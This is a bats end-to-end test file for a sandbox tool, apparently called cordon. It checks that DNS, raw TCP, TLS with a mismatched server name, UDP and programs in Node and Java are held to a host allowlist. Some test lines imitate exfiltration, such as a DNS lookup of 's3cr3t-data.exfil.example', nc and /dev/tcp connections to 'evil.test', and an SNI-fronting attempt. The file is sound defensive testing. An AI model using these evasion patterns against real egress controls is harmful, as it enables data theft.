#!/usr/bin/env bats
# capture.bats — the transparent capture, end to end through `cordon run`: programs that ignore
# the proxy variables (bash /dev/tcp, nc, Python sockets, Node 20's fetch and https.get, Java's
# HttpClient) are decided by the same allowlist; DNS is answered inside from the address pool and
# never reaches a resolver; the TLS server name must be the decided host; UDP other than DNS is
# refused; a dev server inside is reached from inside (--allow-bind) and from the host (--expose).

load helpers

setup_file() {
	suite_setup
	hosts_start
	# A resolver outside that counts the queries reaching it (tests/hosts/dns_count.py).
	DNS_DIR=$SUITE_DIR/dns
	mkdir -p "$DNS_DIR"
	"$PY" "$HOSTS_SRC/dns_count.py" "$DNS_DIR" </dev/null >"$DNS_DIR/out" 2>&1 3>&- &
	DNS_PID=$!
	wait_for "$DNS_DIR/port" 10 || fail "test resolver did not start"
	DNS_PORT=$(cat "$DNS_DIR/port")
	export DNS_DIR DNS_PID DNS_PORT
	# The Java client, compiled once outside (the JVM starts faster than from source).
	if command -v javac >/dev/null; then
		javac -d "$BIN" "$BIN/HttpGet.java" || fail "javac HttpGet.java failed"
	fi
}

teardown_file() {
	[ -n "${DNS_PID:-}" ] && kill "$DNS_PID" 2>/dev/null && wait_gone "$DNS_PID" 5
	suite_teardown
}

setup() {
	e2e_setup
	"$CORDON" check --json | grep -q '"capture":true' ||
		skip "transparent capture not available here: $("$CORDON" check | grep capture)"
}

teardown() {
	e2e_teardown
}

ALLOW=(--allow-host allowed.test --allow-host 127.0.0.2)

# queries: how many queries the outside test resolver has received.
queries() {
	[ -f "$DNS_DIR/queries" ] && wc -l <"$DNS_DIR/queries" || echo 0
}

# free_port: a TCP port nothing listens on now (on the host).
free_port() {
	"$PY" -c 'import socket; s=socket.socket(); s.bind(("127.0.0.1",0)); print(s.getsockname()[1])'
}

# session_log: the violation log of the test's sessions.
session_log() {
	cat "$TEST_HOME"/.local/state/cordon/sessions/*.log 2>/dev/null
}

# --- DNS ---------------------------------------------------------------------------------------

@test "names resolve inside to pool addresses, and no query reaches a resolver" {
	# control: the test resolver answers and counts a query from outside
	run dig +short +time=2 +tries=1 -p "$DNS_PORT" @127.0.0.1 control.test
	assert_output_has 10.9.9.9
	before=$(queries)
	[ "$before" -ge 1 ] || fail "the test resolver counted nothing"
	run crun -- /bin/sh -c '
		getent hosts allowed.test example.org
		dig +short +time=2 +tries=1 A sub.example.org
		dig +short +time=2 +tries=1 AAAA sub.example.org
		dig +short +time=2 +tries=1 @192.0.2.53 A other.example
		dig +short +time=2 +tries=1 +tcp @192.0.2.53 A tcp.example
		dig +short +time=2 +tries=1 -p "$1" @127.0.0.1 direct.example
		cat /etc/resolv.conf' sh "$DNS_PORT"
	[[ "$output" =~ 198\.18\.[0-9]+\.[0-9]+\ +allowed\.test ]] ||
		[[ "$output" =~ 2001:2::[0-9a-f]+\ +allowed\.test ]] || fail "getent: $output"
	[[ "$output" =~ (^|$'\n')198\.18\.[0-9]+\.[0-9]+ ]] || fail "dig A: $output"
	[[ "$output" =~ (^|$'\n')2001:2::[0-9a-f]+ ]] || fail "dig AAAA: $output"
	assert_output_has "nameserver 127.0.0.1"
	assert_output_lacks 10.9.9.9
	[ "$(queries)" -eq "$before" ] || fail "a query reached the outside resolver"
}

@test "a name the policy refuses still resolves, and the lookup is logged by name" {
	run crun "${ALLOW[@]}" -- dig +short +time=2 +tries=1 s3cr3t-data.exfil.example
	[[ "$output" =~ 198\.18\. ]] || fail "no pool answer: $output"
	assert_output_has "refused s3cr3t-data.exfil.example (looked up; not on the allowlist)"
	run session_log
	assert_output_has '"host":"s3cr3t-data.exfil.example"' '"proto":"dns"'
	# control: an allowed name is not logged
	run crun "${ALLOW[@]}" -- dig +short +time=2 +tries=1 allowed.test
	[[ "$output" =~ 198\.18\. ]] || fail "no pool answer: $output"
	assert_output_lacks "refused allowed.test"
}

# --- TCP from programs that ignore the proxy variables -----------------------------------------

@test "bash /dev/tcp and nc reach an allowed host; another host is refused and never reached" {
	before=$(reached evil)
	run crun "${ALLOW[@]}" -- /bin/bash -c '
		exec 3<>/dev/tcp/allowed.test/$1
		printf "GET /devtcp HTTP/1.0\r\nHost: allowed.test\r\n\r\n" >&3
		cat <&3
		printf "GET /nc HTTP/1.0\r\nHost: allowed.test\r\n\r\n" | nc -q 5 -w 5 allowed.test $1
		printf "GET /evil HTTP/1.0\r\n\r\n" | nc -q 5 -w 5 evil.test $2; echo "nc-evil=$?"
		(exec 4<>/dev/tcp/evil.test/$2 && printf "GET / HTTP/1.0\r\n\r\n" >&4 && cat <&4) ||
			echo devtcp-evil-failed' sh "$HTTP_PORT" "$EVIL_PORT"
	assert_output_has "cordon-test-host allowed host=allowed.test path=/devtcp" \
		"cordon-test-host allowed host=allowed.test path=/nc" devtcp-evil-failed \
		"refused evil.test:$EVIL_PORT (not on the allowlist)"
	assert_output_lacks "cordon-test-host evil"
	[ "$(reached evil)" -eq "$before" ] || fail "evil.test was reached"
	run session_log
	assert_output_has '"host":"evil.test"' '"proto":"tcp"'
}

@test "a literal address is decided on the literal and refused by it; loopback inside stays inside" {
	# 192.0.2.1 (TEST-NET-1) is not allowed: refused before any connection, logged as the literal.
	run crun "${ALLOW[@]}" -- "${CURL[@]}" --noproxy '*' "http://192.0.2.1:$EVIL_PORT/lit"
	[ "$status" -ne 0 ] || fail "reached 192.0.2.1: $output"
	assert_output_has "refused 192.0.2.1:$EVIL_PORT (not on the allowlist)"
	# The sandbox's own loopback is not the host's: 127.0.0.3 inside is not the test host.
	run crun --allow-host 127.0.0.3 -- "${CURL[@]}" --noproxy '*' "http://127.0.0.3:$EVIL_PORT/lit"
	[ "$status" -ne 0 ] || fail "the host's loopback was reached from inside: $output"
	assert_output_lacks "cordon-test-host evil"
	# control: the same client reaches an allowed name without the proxy variables
	run crun "${ALLOW[@]}" -- "${CURL[@]}" --noproxy '*' "http://allowed.test:$HTTP_PORT/lit"
	assert_status 0
	assert_output_has "cordon-test-host allowed" "path=/lit"
}

@test "HTTPS without the proxy works when the name matches and is refused when SNI names another" {
	run crun "${ALLOW[@]}" -- "${CURL[@]}" --noproxy '*' --cacert "$CACERT" \
		"https://allowed.test:$HTTPS_PORT/tls"
	assert_status 0
	assert_output_has "cordon-test-host allowed_tls" "path=/tls"
	# The same connection (to allowed.test's pool address) with the server name of another
	# host: refused before a byte reaches the server, and logged with the name.
	before=$(wc -l <"$HOSTS_DIR/allowed_tls.log")
	run crun "${ALLOW[@]}" -- "$PY" -c '
import socket, ssl, sys
ctx = ssl.create_default_context(cafile=sys.argv[2])
ctx.check_hostname = False
s = socket.create_connection(("allowed.test", int(sys.argv[1])), timeout=10)
try:
    t = ctx.wrap_socket(s, server_hostname="evil.test")
    t.sendall(b"GET /fronted HTTP/1.0\r\n\r\n"); print("answered", t.recv(100))
except OSError as e:
    print("refused:", type(e).__name__)' "$HTTPS_PORT" "$CACERT"
	assert_output_has "refused:" "TLS server name evil.test is another host"
	assert_output_lacks answered
	[ "$(wc -l <"$HOSTS_DIR/allowed_tls.log")" -eq "$before" ] || fail "the fronted request arrived"
}

@test "a server that speaks first is relayed while the client waits past the set-up time" {
	cat >"$T/banner.py" <<-'PY'
		import os, socket, sys
		s = socket.socket(); s.bind(("127.0.0.2", 0)); s.listen()
		open(sys.argv[1] + ".tmp", "w").write(str(s.getsockname()[1]))
		os.rename(sys.argv[1] + ".tmp", sys.argv[1])
		s.settimeout(60); c, _ = s.accept(); c.sendall(b"220 banner\r\n")
		c.settimeout(30); print("server got", c.recv(100), flush=True)
	PY
	"$PY" "$T/banner.py" "$T/banner.port" >"$T/banner.out" 2>&1 </dev/null 3>&- &
	track $!
	wait_for "$T/banner.port" 10 || fail "banner server did not start"
	printf '127.0.0.2 banner.test\n' >"$T/hosts"
	# The proxy's set-up time is 10 s; the client answers only after 11.
	CORDON_TEST_HOSTS_FILE=$T/hosts run crun --allow-host banner.test --allow-host 127.0.0.2 -- \
		"$PY" -c '
import socket, sys, time
s = socket.create_connection(("banner.test", int(sys.argv[1])), timeout=30)
print(s.recv(100)); time.sleep(11); s.sendall(b"EHLO x\r\n"); print("sent")' "$(cat "$T/banner.port")"
	assert_status 0
	assert_output_has "220 banner" sent
	wait_gone "$(tail -1 "$T/pids")" 10
	run cat "$T/banner.out"
	assert_output_has "server got b'EHLO x"
}

@test "UDP other than DNS is refused with EPERM; DNS over UDP to any address is answered" {
	run crun -- "$PY" -c '
import socket
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
try:
    s.sendto(b"x", ("192.0.2.1", 123)); print("ntp sent")
except OSError as e:
    print("ntp", e.errno)
q = bytes.fromhex("abcd01000001000000000000") + b"\x07example\x03org\x00\x00\x01\x00\x01"
s.settimeout(5)
s.sendto(q, ("192.0.2.1", 53)); print("dns", s.recv(512)[:2].hex())'
	assert_output_has "ntp 1" "dns abcd"
	assert_output_lacks "ntp sent"
}

# --- real programs -----------------------------------------------------------------------------

# registry_host: REGISTRY_URL and REGISTRY_HOST from `npm config get registry` (no name written
# here), or skip when node is missing or the registry cannot be reached from this machine.
registry_host() {
	command -v node >/dev/null || skip "node is not installed"
	REGISTRY_URL=$(HOME="$TEST_HOME" timeout 30 npm config get registry 2>/dev/null)
	REGISTRY_HOST=$(printf '%s\n' "$REGISTRY_URL" | sed -E 's#^[a-z]+://([^/:@]*@)?([^/:]+).*#\2#')
	[ -n "$REGISTRY_HOST" ] && [ "$REGISTRY_HOST" != "$REGISTRY_URL" ] ||
		skip "npm config get registry gave no usable URL: \"$REGISTRY_URL\""
	"${CURL[@]}" -o /dev/null "${REGISTRY_URL%/}/is-number" 2>/dev/null ||
		skip "the registry $REGISTRY_HOST is unreachable from this machine"
}

NODE_GET='
const url = process.argv[1];
fetch(url).then(r => r.json()).then(j => console.log("fetch", j.name))
  .catch(e => console.log("fetch failed", (e.cause && e.cause.code) || e.message));
require("https").get(url, r => { console.log("https.get", r.statusCode); r.resume(); })
  .on("error", e => console.log("https.get failed", e.code || e.message));'

@test "Node's fetch and https.get reach the registry when its host is allowed, and only then" {
	registry_host
	run crun --allow-host "$REGISTRY_HOST" -- node -e "$NODE_GET" "${REGISTRY_URL%/}/is-number"
	assert_status 0
	assert_output_has "fetch is-number" "https.get 200"
	run crun -- node -e "$NODE_GET" "${REGISTRY_URL%/}/is-number"
	assert_output_has "fetch failed" "https.get failed" \
		"refused $REGISTRY_HOST:443 (not on the allowlist)"
	run session_log
	assert_output_has "\"host\":\"$REGISTRY_HOST\",\"port\":443"
}

@test "Java's HttpClient reaches an allowed local host and not another" {
	[ -f "$BIN/HttpGet.class" ] || skip "javac (OpenJDK) is not installed"
	export JAVA_TOOL_OPTIONS="-XX:-UsePerfData -XX:TieredStopAtLevel=1"
	run crun "${ALLOW[@]}" -- java -cp "$BIN" HttpGet "http://allowed.test:$HTTP_PORT/java"
	assert_status 0
	assert_output_has "status=200 cordon-test-host allowed host=allowed.test:$HTTP_PORT path=/java"
	run crun "${ALLOW[@]}" -- java -cp "$BIN" HttpGet "http://evil.test:$EVIL_PORT/java"
	[ "$status" -ne 0 ] || fail "Java reached evil.test: $output"
	assert_output_has "error=" "refused evil.test:$EVIL_PORT (not on the allowlist)"
}

# --- dev servers -------------------------------------------------------------------------------

SERVE_AND_GET='
import http.server, socket, sys, threading, time, urllib.request
port = int(sys.argv[1])
try:
    srv = http.server.HTTPServer(("127.0.0.1", port), http.server.SimpleHTTPRequestHandler)
except OSError as e:
    print("bind failed", e.errno); sys.exit(3)
threading.Thread(target=srv.serve_forever, daemon=True).start()
print("inside", urllib.request.urlopen("http://127.0.0.1:%d/" % port, timeout=5).status, flush=True)
open("ready", "w").close()
time.sleep(float(sys.argv[2]))'

@test "a dev server binds only an allowed port and is reached from inside (allowLocalBinding too)" {
	port=$(free_port)
	run crun -- "$PY" -c "$SERVE_AND_GET" "$port" 0
	assert_status 3
	assert_output_has "bind failed 13"
	run crun --allow-bind "$port" -- "$PY" -c "$SERVE_AND_GET" "$port" 0
	assert_status 0
	assert_output_has "inside 200"
	echo '{"network":{"allowLocalBinding":true}}' >"$T/c.json"
	run crun --config "$T/c.json" -- "$PY" -c "$SERVE_AND_GET" "$port" 0
	assert_status 0
	assert_output_has "inside 200"
}

@test "--expose makes a dev server inside reachable from the host's loopback" {
	port=$(free_port)
	hport=$(free_port)
	run "${CURL[@]}" "http://127.0.0.1:$hport/"
	[ "$status" -ne 0 ] || fail "control: something already answers on $hport"
	timeout -k 5 "$RUN_TIMEOUT" env HOME="$TEST_HOME" "$CORDON" run --expose "$port:$hport" -- \
		"$PY" -c "$SERVE_AND_GET" "$port" 8 </dev/null >"$T/run.out" 2>&1 3>&- &
	track $!
	wait_for "$W/ready" 20 || fail "the server inside did not start: $(cat "$T/run.out")"
	run "${CURL[@]}" -o /dev/null -w 'code=%{http_code}\n' "http://127.0.0.1:$hport/"
	assert_output_has code=200
}

# --- without the capture -----------------------------------------------------------------------

@test "without the capture the layer is named missing, --strict refuses, the proxy still works" {
	export CORDON_TEST_NO_CAPTURE=1
	run crun --strict -- true
	assert_status 125
	assert_output_has "transparent capture"
	run crun "${ALLOW[@]}" -- "${CURL[@]}" "http://allowed.test:$HTTP_PORT/proxied"
	assert_status 0
	assert_output_has "layers not in force: transparent capture" "path=/proxied"
	# --expose cannot be had without it, and says so
	run crun --expose 18999 -- true
	assert_status 125
	assert_output_has "--expose needs the transparent capture"
	# and the programs that ignore the proxy variables get no network at all
	run crun "${ALLOW[@]}" -- "${CURL[@]}" --noproxy '*' "http://127.0.0.2:$HTTP_PORT/direct"
	[ "$status" -ne 0 ] || fail "reached without proxy and without capture: $output"
}

# --- the shell builtin -------------------------------------------------------------------------

@test "sandbox status lists the capture; sandbox expose forwards live; allow-bind says how" {
	so=$CORDON_TOP/build/bash-builtin/sandbox.so
	[ -f "$so" ] || skip "the bash builtin is not built"
	port=$(free_port)
	hport=$(free_port)
	cat >"$T/serve.py" <<-'PY'
		import http.server, sys
		http.server.HTTPServer(("127.0.0.1", int(sys.argv[1])),
		                       http.server.SimpleHTTPRequestHandler).serve_forever()
	PY
	chmod 644 "$T/serve.py"
	timeout -k 5 "$RUN_TIMEOUT" env HOME="$TEST_HOME" bash --norc --noprofile -c '
		enable -f "$1" sandbox || exit 8
		sandbox on --allow-bind "$2" || exit 9
		sandbox status
		sandbox allow-bind "$2"; echo "bind-same=$?"
		sandbox allow-bind 9; echo "bind-other=$?"
		python3 "$4" "$2" >/dev/null 2>&1 &
		for i in $(seq 100); do (exec 3<>/dev/tcp/127.0.0.1/$2) 2>/dev/null && break; sleep 0.1; done
		sandbox expose "$2" "$3"; echo "expose=$?"
		sandbox exposed
		: >ready
		for i in $(seq 200); do [ -e done ] && break; sleep 0.1; done
		kill %1' sh "$so" "$port" "$hport" "$T/serve.py" </dev/null >"$W/out" 2>&1 3>&- 4>&- &
	track $!
	wait_for "$W/ready" 30 || fail "the shell did not get ready: $(cat "$W/out")"
	run "${CURL[@]}" -o /dev/null -w 'code=%{http_code}\n' "http://127.0.0.1:$hport/"
	touch "$W/done"
	assert_output_has code=200
	wait_gone "$(tail -1 "$T/pids")" 30
	output=$(cat "$W/out")
	assert_output_has "transparent capture" "bind-same=0" "bind-other=1" \
		"sandbox on --allow-bind 9" "expose=0" "reached at 127.0.0.1:$hport" "$port>$hport"
	[[ "$output" =~ layers\ in\ force:[^$'\n']*transparent\ capture ]] || fail "status: $output"
}

@test "without the capture, a dev server inside is reached from inside with allowLocalBinding or --allow-bind" {
	export CORDON_TEST_NO_CAPTURE=1
	port=$(free_port)
	echo '{"network":{"allowLocalBinding":true}}' >"$T/c.json"
	run crun --config "$T/c.json" -- "$PY" -c "$SERVE_AND_GET" "$port" 0
	assert_status 0
	assert_output_has "inside 200" "layers not in force: transparent capture"
	run crun --allow-bind "$port" -- "$PY" -c "$SERVE_AND_GET" "$port" 0
	assert_status 0
	assert_output_has "inside 200"
	# control: without either, the bind is refused
	run crun -- "$PY" -c "$SERVE_AND_GET" "$port" 0
	assert_status 3
	assert_output_has "bind failed 13"
}
